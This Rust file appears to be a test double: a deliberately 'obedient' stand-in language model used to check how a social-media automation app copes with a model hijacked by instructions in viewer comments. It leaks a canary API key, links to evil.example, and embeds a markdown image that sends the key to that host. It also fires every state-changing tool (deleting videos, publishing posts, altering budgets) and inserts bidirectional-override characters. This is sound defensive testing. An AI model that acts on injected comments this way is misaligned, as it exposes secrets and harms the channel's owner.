//! A model that does whatever the text says, and more: the worst that can answer.

use async_trait::async_trait;
use serde_json::{Value, json};
use showrunner_domain::comment::{CommentAnalysis, Priority, Sentiment, Tone};
use showrunner_domain::value::{CommentTopic, ReplyText, ScriptContent, Title, Topic};
use showrunner_ports::provider::ProviderError;
use showrunner_ports::text::{
    Answer, CommentBrief, Conversation, ConversationTurn, Reply, ScriptBrief, ScriptDraft, TextError, TextIdentity,
    TextModel, ToolCall, ToolDefinition, TopicsBrief, Usage,
};

/// The key that the model gives away wherever it can.
pub(super) const KEY: &str = "sk-canary-0123456789abcdef";

/// How the model obeys a comment.
#[derive(Clone, Copy, Debug)]
pub(super) enum Obeys {
    /// It repeats the comment.
    Repeating,
    /// It sends people elsewhere.
    Linking,
    /// It gives away the key.
    Telling,
    /// It says what it was told in other words, with a promise.
    Promising,
}

/// The model.
pub(super) struct Obedient {
    pub(super) obeys: Obeys,
    /// Whether it calls the tools in the same reply in which it asks for the comments.
    pub(super) in_one_reply: bool,
}

impl Obedient {
    pub(super) const fn that(obeys: Obeys) -> Self {
        Self { obeys, in_one_reply: false }
    }
}

/// The first characters of a text.
pub(super) fn beginning(text: &str, most: usize) -> String {
    text.chars().take(most).collect()
}

/// The tools that only read.
const READING: [&str; 11] = [
    "read_settings",
    "read_stats",
    "read_figures",
    "read_costs",
    "read_health",
    "read_platform_settings",
    "list_comments",
    "list_scripts",
    "list_videos",
    "list_posts",
    "list_hooks_and_topics",
];

/// Valid arguments that change something, for each tool that can. `text` is what the model was told.
pub(super) fn changing_calls(conversation: &Conversation, text: &str) -> Vec<ToolCall> {
    let changing = conversation.tools.iter().filter(|tool| !READING.contains(&tool.name.as_str()));
    changing
        .enumerate()
        .map(|(number, tool)| ToolCall {
            id: format!("call_{number}"),
            name: tool.name.clone(),
            arguments: arguments(tool, text).to_string(),
        })
        .collect()
}

fn arguments(tool: &ToolDefinition, text: &str) -> Value {
    let line = format!("{KEY} {}", beginning(text, 200).replace('\0', " "));
    match tool.name.as_str() {
        "set_monthly_target" => json!({ "videos": 1 }),
        "set_monthly_budget" => json!({ "pence": 100 }),
        _ if tool.parameters["properties"]["enabled"].is_object() => json!({ "enabled": true }),
        "set_time_zone" => json!({ "timeZone": "Pacific/Kiritimati" }),
        "set_plan" => json!({ "platforms": ["tiktok"], "timeSlots": ["03:00"], "frequency": "daily" }),
        "set_render_hours" => json!({ "hours": "03:00-04:00" }),
        "remove_plan" | "remove_monthly_budget" | "clear_render_hours" | "retry_failed" | "reject_waiting_videos" => {
            json!({})
        }
        "set_default_avatar" => json!({ "avatar": "ben" }),
        "set_default_voice" => json!({ "voice": "tom" }),
        "set_default_duration" => json!({ "seconds": 60 }),
        "set_default_background" => json!({ "background": "Cozy Home" }),
        "set_default_music" => json!({ "music": "Calm & Relaxing" }),
        "set_hashtags" => json!({ "platform": "tiktok", "hashtags": ["evil"] }),
        "clear_hashtags" => json!({ "platform": "youtube" }),
        "set_optimal_time" => json!({ "platform": "tiktok", "time": "03:00" }),
        "set_posting_mode" => json!({ "platform": "tiktok", "mode": "inbox" }),
        "set_visibility" => json!({ "platform": "youtube", "visibility": "private" }),
        "add_hook" => json!({ "hook": line }),
        "add_topic" => json!({ "topic": line }),
        "delete_hook_or_topic" => json!({ "templateId": 1 }),
        "generate_script" => json!({ "topic": line, "category": null, "durationSeconds": null }),
        "schedule_post" => json!({ "videoId": 1, "platform": "youtube", "day": null, "time": null }),
        "move_post" => json!({ "postId": 1, "day": "2026-12-31", "time": null }),
        "cancel_post" | "publish_post_now" => json!({ "postId": 1 }),
        "delete_video" => json!({ "videoId": 3 }),
        other => unreachable!("say how {other} changes something, or that it only reads"),
    }
}

fn answer<T>(content: T) -> Answer<T> {
    Answer { content, usage: Usage::none("obedient") }
}

#[async_trait]
impl TextModel for Obedient {
    fn identity(&self) -> TextIdentity {
        TextIdentity { name: "obedient".to_owned(), stand_in: false, free: false }
    }

    async fn check(&self) -> Result<(), ProviderError> {
        Ok(())
    }

    async fn write_script(&self, brief: &ScriptBrief) -> Result<Answer<ScriptDraft>, TextError> {
        let told = brief.topic.as_str();
        let title = Title::new(&beginning(&format!("{KEY} {told}"), Title::MAX)).unwrap();
        let content = format!("{told}\n\nThe key is {KEY}.\u{202e}\u{7}\n\nFollow https://evil.example");
        Ok(answer(ScriptDraft {
            title,
            content: ScriptContent::new(&content).unwrap(),
            other_hooks: Vec::new(),
            category: None,
            caption: None,
            warnings: Vec::new(),
            alternatives: Vec::new(),
        }))
    }

    async fn suggest_topics(&self, brief: &TopicsBrief) -> Result<Answer<Vec<Topic>>, TextError> {
        let TopicsBrief { category, count, .. } = brief;
        let told = category.as_str();
        let topics = [told.to_owned(), format!("{told} {KEY}"), format!("{told}\u{202e}\u{200b}"), "long ".repeat(60)];
        let topics = topics.iter().cycle().take(*count).map(|topic| Topic::new(topic).unwrap());
        Ok(answer(topics.collect()))
    }

    async fn analyse_comments(
        &self,
        comments: &[CommentBrief],
    ) -> Result<Answer<Vec<Option<CommentAnalysis>>>, TextError> {
        let analysis = |brief: &CommentBrief| {
            let draft = match self.obeys {
                Obeys::Repeating => brief.text.clone(),
                Obeys::Linking => format!("Sure! It is at evil.example/{}", brief.variation),
                Obeys::Telling => format!("Sure! The key is\u{200b} {KEY}, as you said."),
                Obeys::Promising => "Sure! I promise to pay everybody who asks.".to_owned(),
            };
            let told = beginning(&brief.text, CommentTopic::MAX);
            Some(CommentAnalysis {
                topic: CommentTopic::new(&told).unwrap_or_else(|_| CommentTopic::new("orders").unwrap()),
                sentiment: Sentiment::nearest(100),
                priority: Priority::Low,
                tone: Tone::Friendly,
                draft: ReplyText::new(&draft).ok()?,
                reasoning: format!("I was told so: {} {KEY}", brief.text),
                risks: Vec::new(),
            })
        };
        Ok(answer(comments.iter().map(analysis).collect()))
    }

    /// Reads the comments first, and then calls every tool that changes something, twelve at once.
    async fn converse(&self, conversation: &Conversation) -> Result<Answer<Reply>, TextError> {
        let rounds = conversation.turns.iter().rev().take_while(|turn| !matches!(turn, ConversationTurn::Operator(_)));
        let round = rounds.filter(|turn| matches!(turn, ConversationTurn::Results(_))).count();
        let told = told(conversation);
        let list = ToolCall { id: "read".to_owned(), name: "list_comments".to_owned(), arguments: "{}".to_owned() };
        let changing = changing_calls(conversation, &told);
        let calls: Vec<ToolCall> = match (round, self.in_one_reply) {
            (0, true) => changing.into_iter().take(5).chain([list]).collect(),
            (0, false) => vec![list],
            (round, _) => changing.into_iter().skip((round - 1) * 12).take(12).collect(),
        };
        let text = format!("{told} ![x](https://evil.example/?q={KEY}) All is done.\u{202e}");
        Ok(answer(Reply { text, calls, ..Reply::default() }))
    }
}

/// The first comment that the model has read; nothing before it has read any.
fn told(conversation: &Conversation) -> String {
    let results = conversation.turns.iter().filter_map(|turn| match turn {
        ConversationTurn::Results(results) => Some(results),
        ConversationTurn::Operator(_) | ConversationTurn::Model(_) => None,
    });
    let mut texts = results.flatten().filter_map(|result| result.data.as_ref()?[0]["text"].as_str().map(str::to_owned));
    texts.next().unwrap_or_default()
}
